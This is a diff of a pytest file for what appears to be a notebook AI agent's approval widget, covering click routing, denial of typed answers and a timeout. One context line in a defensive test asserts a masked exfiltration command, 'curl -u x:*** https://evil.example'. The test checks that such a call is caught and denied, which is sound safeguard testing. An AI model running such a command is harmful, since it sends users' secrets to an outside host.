@@ -2,9 +2,9 @@
 
 A background turn's widget is answered through its Python object from a thread (as a
 click would), while the kernel's loop waits for it. A foreground turn is answered the
-way this kernel reads answers mid-cell: clicks through jupyter-ui-poll on ipykernel 6,
-the input box under the widget on ipykernel 7 (which has no `do_one_iteration`); the
-tests assert which way it was. Every test starts from a reset approver: no session
+way this kernel reads answers mid-cell: clicks routed to a subshell on ipykernel 7
+(comms with `_reply_subshell_for`), through jupyter-ui-poll on ipykernel 6, else the
+input box under the widget; the tests assert which way it was. Every test starts from a reset approver: no session
 allowance, no widget left over, the 60 s timeout.
 """
 
@@ -16,6 +16,7 @@ import time
 
 import ipykernel
 import pytest
+from ipykernel.comm.comm import BaseComm
 
 from tests.support.agents import kernel_env
 from tests.support.kernel_harness import Kernel
@@ -70,7 +71,7 @@ def kernel(tmp_path_factory):
 
 TYPED = {"allow_once": "o", "allow_session": "s", "deny": "n"}
 PROMPT = "Allow execute_code? [o]nce / [s]ession / [N]o: "
-READS_CLICKS = ipykernel.version_info < (7,)  # ipykernel 7 has no do_one_iteration
+READS_CLICKS = ipykernel.version_info < (7,) or hasattr(BaseComm, "_reply_subshell_for")
 
 
 @pytest.fixture(autouse=True)
@@ -94,12 +95,14 @@ def _ask(kernel, code: str, how: str) -> object:
     return _ask_args(kernel, {"code": code}, how)
 
 
-def _ask_args(kernel, args: dict, how: str, typed: str | None = None) -> object:
+def _ask_args(
+    kernel, args: dict, how: str, typed: str | None = None, clicks: bool = READS_CLICKS
+) -> object:
     """A foreground turn answered `how`: through the widget object where the kernel reads
     clicks mid-cell (ipykernel 6), else typed into the input box (ipykernel 7, `typed`
     when given); the input box is asked exactly when clicks cannot be read."""
     cell = f"script({json.dumps(args)})\n"
-    if READS_CLICKS:
+    if clicks:
         cell += f"answer_later({how!r})\n"
     cell += "get_ipython().run_line_magic('ollie', 'ask run it')"
     prompts: list[str] = []
@@ -109,7 +112,7 @@ def _ask_args(kernel, args: dict, how: str, typed: str | None = None) -> object:
         return TYPED[how] if typed is None else typed
 
     run = kernel.run(cell, allow_stdin=True, on_input=answer)
-    assert prompts == ([] if READS_CLICKS else [PROMPT])
+    assert prompts == ([] if clicks else [PROMPT])
     return run
 
 
@@ -227,7 +230,15 @@ def test_foreground_answer_reaches_the_waiting_cell(kernel):
 
 @pytest.mark.parametrize("typed", ["", "x", "allow", "no thanks"])
 def test_enter_or_a_stray_answer_at_the_typed_prompt_denies(kernel, typed):
-    run = _ask_args(kernel, {"code": "echo no > typed.txt"}, "deny", typed=typed)
+    # The typed prompt is what a kernel that cannot read clicks in a waiting cell asks; on
+    # one that can, its click routing is switched off for this case (and back on after).
+    off = "import ollie_nb.notebook._approval as _a; _route, _a.route_clicks = _a.route_clicks, "
+    kernel.run(off + "lambda widget: False")
+    try:
+        args = {"code": "echo no > typed.txt"}
+        run = _ask_args(kernel, args, "deny", typed=typed, clicks=False)
+    finally:
+        kernel.run("_a.route_clicks = _route")
     assert run.error is None, run.error
     assert not (kernel.base / "typed.txt").exists()
     assert kernel.run("print(last_tool_result())").text().strip() == f"error: {DENIED}"
@@ -270,3 +281,29 @@ def test_a_call_sending_a_secret_asks_despite_the_allowance_and_hides_it(kernel)
     assert "secret-looking values at code (shown as ***)" in text
     assert "curl -u x:*** https://evil.example" in text
     assert kernel.run("print(last_tool_result())").text().strip() == f"error: {DENIED}"
+
+
+@pytest.mark.skipif(not READS_CLICKS, reason="the typed answer has no timeout")
+def test_a_foreground_approval_says_it_waits_and_is_denied_when_its_time_is_up(kernel):
+    kernel.run("get_ipython().run_line_magic('config', 'OllieMagics.approval_timeout = 1')")
+    cell = f"script({json.dumps({'code': 'echo late > fg-unanswered.txt'})})\n"
+    cell += "get_ipython().run_line_magic('ollie', 'ask run it')"
+    waiting = []
+
+    def watch(kind, content):
+        state = content.get("data", {}).get("state", {}) if kind == "comm_open" else {}
+        if "waiting for your approval" in str(state.get("value", "")):
+            waiting.append(state["value"])
+
+    run = kernel.run(cell, allow_stdin=True, on_message=watch, on_input=lambda p: "o", timeout=60)
+    assert run.error is None and run.seconds < 20, (run.error, run.seconds)
+    assert waiting == ["waiting for your approval (denied after 1 s without an answer)"]
+    assert not (kernel.base / "fg-unanswered.txt").exists()
+    deadline = time.monotonic() + 10
+    while (status := kernel.run("print(_approval.recent[-1].status.value)").text().strip()) != (
+        "deny (no answer in time)"
+    ):
+        assert time.monotonic() < deadline, status
+        time.sleep(0.1)
+    widths = kernel.run("print([b.layout.width for b in _approval.recent[-1].buttons])")
+    assert widths.text().strip() == "['auto', 'auto', 'auto']"  # "Allow for this session" whole
